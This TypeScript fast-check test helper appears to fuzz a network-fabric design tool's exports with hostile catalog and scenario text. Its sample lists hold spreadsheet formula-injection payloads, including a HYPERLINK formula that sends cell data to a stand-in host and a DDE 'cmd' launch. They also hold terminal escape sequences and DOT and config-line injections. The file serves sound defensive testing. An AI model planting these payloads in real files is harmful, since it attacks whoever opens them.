import fc from 'fast-check';
import type { Catalog } from '../../src/model/catalog';
import { CatalogSchema } from '../../src/model/catalog';
import type { Design, Result } from '../../src/model/result';
import { ScenarioSchema, type Scenario } from '../../src/model/scenario';
import { defaultCatalog } from '../../src/catalog/default';
import { optimize } from '../../src/topology/optimize';
import { exportSubject, type ExportSubject } from '../../src/export/fabric';
import { materialize } from '../../src/topology/materialize';

/** Text an attacker would put in a catalog or scenario to attack whoever opens an export. */
export const HOSTILE_SAMPLES = [
  '=HYPERLINK("http://x.example/?"&A2,"Click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '-2+3',
  '\t=1',
  '\r=1',
  "'=1",
  'QM9700\nSwitch\t36 "S-0000000000000001"\t\t# "forged"',
  'a\r\nb',
  'ends with a backslash\\',
  '\\',
  '"',
  'say "hi", then \\"leave\\"',
  'nul\0here',
  '\x1b[31mred\x1b[0m',
  '\x1b]8;;http://x.example\x07link\x1b]8;;\x07',
  '\x07\x08\x7f\x85\x9b',
  'line\u2028para\u2029end',
  '\ufeffbom',
  '\ud800 lone surrogate',
  '}; digraph x { a -> b',
  '"]; evil [label="x',
  'key: value\n- list',
  '{ flow: [1, 2] }',
  '# comment',
  '&anchor *alias !tag',
  'SwitchName=evil Nodes=node-[1-9]',
  '[1]\t"S-0000000000000002"[1]',
  ' ',
] as const;

const HOSTILE_CHARS = [
  '=', '+', '-', '@', '\t', '\r', '\n', '"', "'", '\\', ',', ';', '#', '[', ']', '{', '}', ':', '|', '&', ' ',
  '\0', '\x1b', '\x07', '\x7f', '\x85', '\x9b', '\u2028', '\u2029', '\ufeff', '\ud800', '\udc00', 'a', 'Z', '9', 'é', '漢', '😀',
];

/** One hostile free-text value: a known payload, a run of hostile characters, or both. */
export const hostileText: fc.Arbitrary<string> = fc
  .oneof(
    fc.constantFrom(...HOSTILE_SAMPLES),
    fc.array(fc.constantFrom(...HOSTILE_CHARS), { minLength: 1, maxLength: 24 }).map((cs) => cs.join('')),
    fc.tuple(fc.constantFrom(...HOSTILE_SAMPLES), fc.string({ unit: 'binary', maxLength: 8 }), fc.constantFrom(...HOSTILE_SAMPLES)).map((p) => p.join('')),
  )
  .filter((s) => s.length >= 1);

/**
 * Every free-text field a user can set in a catalog or scenario (and the free text of a result
 * file), one hostile value each. Which reach which export:
 * - BOM CSV: switch/transceiver/cable model and name, offer vendor, result currency;
 * - cable schedule CSV: transceiver and cable models;
 * - price-list CSV: offer vendor and notes;
 * - DOT: switch model, port mode id, candidate id;
 * - ibnetdiscover, topology.conf, containerlab: switch model, generator, candidate id (containerlab
 *   also picks the container kind by switch vendor).
 * Part notes, part vendors, NIC text, profile and recipe names, scenario and catalog names reach no
 * export file; they are set anyway so a writer that starts using one is covered.
 */
export interface HostileTexts {
  switchModel: string;
  switchName: string;
  switchVendor: string;
  portModeId: string;
  opticModel: string;
  opticName: string;
  opticVendor: string;
  cableModel: string;
  cableName: string;
  cableVendor: string;
  nicModel: string;
  partNotes: string;
  offerVendor: string;
  offerNotes: string;
  profileName: string;
  recipeName: string;
  scenarioName: string;
  catalogName: string;
  generator: string;
  candidateId: string;
  currency: string;
}

export const hostileTexts: fc.Arbitrary<HostileTexts> = fc.record({
  switchModel: hostileText,
  switchName: hostileText,
  switchVendor: hostileText,
  portModeId: hostileText,
  opticModel: hostileText,
  opticName: hostileText,
  opticVendor: hostileText,
  cableModel: hostileText,
  cableName: hostileText,
  cableVendor: hostileText,
  nicModel: hostileText,
  partNotes: hostileText,
  offerVendor: hostileText,
  offerNotes: hostileText,
  profileName: hostileText,
  recipeName: hostileText,
  scenarioName: hostileText,
  catalogName: hostileText,
  generator: hostileText,
  candidateId: hostileText,
  currency: hostileText,
});

/** Port mode ids are at most 40 characters and unique per switch: a hostile prefix plus the mode's index. */
const portModeIdOf = (t: HostileTexts, i: number) => `${t.portModeId.slice(0, 36)}#${i}`;

/** The catalog with every free-text field replaced (ids and numbers kept), still schema-valid. */
export function hostileCatalog(base: Catalog, t: HostileTexts): Catalog {
  const catalog = {
    ...base,
    name: t.catalogName,
    switches: base.switches.map((s) => ({
      ...s, model: t.switchModel, name: t.switchName, vendor: t.switchVendor, notes: t.partNotes,
      portModes: s.portModes.map((m, j) => ({ ...m, id: portModeIdOf(t, j) })),
      // Cage splits name port modes by id: rename them with the modes.
      ...(s.cageSplits ? { cageSplits: s.cageSplits.map((sp) => ({
        down: portModeIdOf(t, s.portModes.findIndex((m) => m.id === sp.down)), up: portModeIdOf(t, s.portModes.findIndex((m) => m.id === sp.up)),
      })) } : {}),
    })),
    transceivers: base.transceivers.map((p) => ({ ...p, model: t.opticModel, name: t.opticName, vendor: t.opticVendor, notes: t.partNotes })),
    cables: base.cables.map((p) => ({ ...p, model: t.cableModel, name: t.cableName, vendor: t.cableVendor, notes: t.partNotes })),
    nics: base.nics.map((p) => ({ ...p, model: t.nicModel, name: t.nicModel, vendor: t.nicModel, notes: t.partNotes })),
    mediaRecipes: base.mediaRecipes.map((r) => ({ ...r, name: t.recipeName, notes: t.partNotes })),
    serverProfiles: base.serverProfiles.map((p) => ({ ...p, name: t.profileName, notes: t.partNotes })),
    offers: base.offers.map((o) => ({ ...o, vendor: t.offerVendor, notes: t.offerNotes })),
  };
  return CatalogSchema.parse(catalog); // a catalog a user could really load
}

/** A small design of the default catalog to rebuild under hostile text. */
export interface Fixture {
  label: string;
  scenario: Scenario;
  design: Design;
  result: Result;
}

/**
 * The fixture's design rebuilt with the hostile catalog, inside a result whose own free text is
 * hostile too (a result file is user input to `railyard export`).
 */
export function hostileSubject(f: Fixture, base: Catalog, t: HostileTexts): ExportSubject {
  const catalog = hostileCatalog(base, t);
  const modeIndex = (switchId: string, modeId: string) => base.switches.find((s) => s.id === switchId)!.portModes.findIndex((m) => m.id === modeId);
  const design: Design = { ...f.design, tiers: f.design.tiers.map((x) => ({
    ...x, portModeId: portModeIdOf(t, modeIndex(x.switchId, x.portModeId)),
    ...(x.upPortModeId ? { upPortModeId: portModeIdOf(t, modeIndex(x.switchId, x.upPortModeId)) } : {}),
  })) };
  const scenario: Scenario = { ...f.scenario, name: t.scenarioName, fabric: { ...f.scenario.fabric, switchModels: [] } };
  const m = materialize(scenario, catalog, design);
  if (!m.ok) throw new Error(`${f.label} does not rebuild under hostile text: ${m.reason}`);
  const result: Result = {
    ...f.result,
    generator: t.generator,
    catalogName: catalog.name,
    currency: t.currency,
    scenario,
    candidates: [{ ...m.candidate, id: t.candidateId, rank: 1 }],
    pareto: [t.candidateId],
  };
  const s = exportSubject(result, catalog, t.candidateId);
  if (!s.ok) throw new Error(s.message);
  return s.value;
}

function optimized(label: string, input: object): Fixture {
  const scenario = ScenarioSchema.parse(input);
  const r = optimize(scenario, defaultCatalog);
  if (!r.ok || !r.result.candidates[0]) throw new Error(`${label}: no design (${r.ok ? 'no candidates' : r.reason})`);
  return { label, scenario, design: r.result.candidates[0].design, result: r.result };
}

/** Three small designs of the default catalog: 2-tier InfiniBand, 2-plane Ethernet, 3-tier InfiniBand (pods and cores). */
export function smallFixtures(): Fixture[] {
  const ib = optimized('2-tier rail-optimized InfiniBand, 64 GPUs', { cluster: { gpus: 64 }, fabric: { technologies: ['infiniband'], families: ['rail-optimized'], maxTiers: 2 }, search: { topK: 1 } });
  const eth = optimized('2-plane rail-optimized Ethernet, 32 GPUs', { cluster: { gpus: 32, serverProfile: 'hgx-b300-8x800g' }, fabric: { technologies: ['ethernet'], planes: [2], families: ['rail-optimized'], maxTiers: 2 }, search: { topK: 1 } });
  // The smallest 3-tier fabric of the default catalog, too costly for the optimizer to rank first.
  // One spine per pod and one core per spine keep it small: the redundancy minimums are set to 1 for it.
  const scenario = ScenarioSchema.parse({ cluster: { gpus: 64 }, fabric: { technologies: ['infiniband'], maxTiers: 3, minSpinesPerPlane: 1, minUplinkSwitches: 1 } });
  const design: Design = {
    family: 'fat-tree', technology: 'infiniband', planes: 1, nodesPerLeafGroup: 1, spinesPerPod: 1, leavesPerPod: 4,
    tiers: [
      { switchId: 'QM9700', portModeId: '64x400G', downPorts: 8, upPorts: 8 },
      { switchId: 'QM9700', portModeId: '64x400G', downPorts: 32, upPorts: 32 },
      { switchId: 'QM9700', portModeId: '64x400G', downPorts: 0, upPorts: 0 },
    ],
  };
  const m = materialize(scenario, defaultCatalog, design);
  if (!m.ok) throw new Error(`3-tier fixture does not build: ${m.reason}`);
  const result: Result = { ...ib.result, scenario, candidates: [m.candidate], pareto: [] };
  return [ib, eth, { label: '3-tier fat-tree InfiniBand, 64 GPUs', scenario, design: m.candidate.design, result }];
}

/** A fixed set of the classic payloads, one per field, for the regression tests. */
export const CLASSIC_TEXTS: HostileTexts = {
  switchModel: '=HYPERLINK("http://x.example/?"&A2,"Click")',
  switchName: "+cmd|' /C calc'!A0",
  switchVendor: '@SUM(1+1)',
  portModeId: '-2+3',
  opticModel: '\t=1',
  opticName: '\r=1',
  opticVendor: '@SUM(1+1)',
  cableModel: '-2+3',
  cableName: '=1+1',
  cableVendor: "+cmd|' /C calc'!A0",
  nicModel: '=1',
  partNotes: '=1',
  offerVendor: '@SUM(1+1)',
  offerNotes: '=HYPERLINK("http://x.example/?"&A2,"Click")',
  profileName: '=1',
  recipeName: '=1',
  scenarioName: '=1',
  catalogName: '=HYPERLINK("http://x.example/")',
  generator: '=1',
  candidateId: '-1',
  currency: '=USD',
};
